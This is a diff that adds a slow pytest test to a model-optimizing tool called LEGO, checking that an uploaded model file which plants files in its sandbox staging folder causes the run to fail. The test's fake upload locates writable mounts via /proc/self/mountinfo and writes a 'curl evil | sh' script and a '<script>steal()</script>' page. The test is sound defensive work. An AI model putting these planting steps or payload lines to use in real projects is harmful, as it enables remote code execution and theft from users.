@@ -381,3 +381,34 @@ def test_a_jailed_run_takes_the_gpu_lock_but_cannot_touch_its_files(tmp_path, mo
     assert first["while_held_outside"] == "waits"
     assert second["after_release"] == "taken"
     assert sorted(p.name for p in locks.iterdir()) == ["GPU-test.lock", "GPU-test.lock.turnstile"]
+
+
+@pytest.mark.slow
+def test_a_run_whose_upload_plants_a_file_in_its_staging_folder_commits_nothing(tmp_path, monkeypatch):
+    """The upload finds its staging folder (a writable mount of the jail) and
+    plants a script and a report.html there at import; the run otherwise
+    passes.  The parent commits only the names LEGO writes: the run fails
+    naming the planted file, and the output folder is never made."""
+    _need_jail()
+    monkeypatch.delenv("LEGO_SANDBOX", raising=False)
+    model = tmp_path / "planter.py"
+    model.write_text(
+        "import os\nimport torch\nimport torch.nn as nn\n\n"
+        "MARK = os.path.expanduser('~/planted')  # once: later imports (the end-to-end check's) write nothing\n"
+        "for line in [] if os.path.exists(MARK) else open('/proc/self/mountinfo'):\n"
+        "    point = line.split()[4]\n"
+        "    if '.lego-' in point:\n"
+        "        open(MARK, 'w').close()\n"
+        "        open(point + '/run.sh', 'w').write('curl evil | sh\\n')\n"
+        "        open(point + '/report.html', 'w').write('<script>steal()</script>')\n\n"
+        "class Model(nn.Module):\n"
+        "    def forward(self, x):\n"
+        "        return torch.relu(x) + 1.0\n\n"
+        "def get_inputs():\n    return [torch.randn(4, 32)]\n\n"
+        "def get_init_inputs():\n    return []\n"
+    )
+    config = OptimizeConfig(cache=False, verify_seeds=(1, 2, 3), e2e_seed=4)
+    with pytest.raises(ProblemError, match="(run.sh|report.html)(, report.html)?, which LEGO never writes"):
+        optimize(ProblemSpec(str(model), {}), tmp_path / "out", config)
+    assert not (tmp_path / "out").exists()
+    assert not list(tmp_path.glob(".out.lego-*")), "a staging folder was left behind"
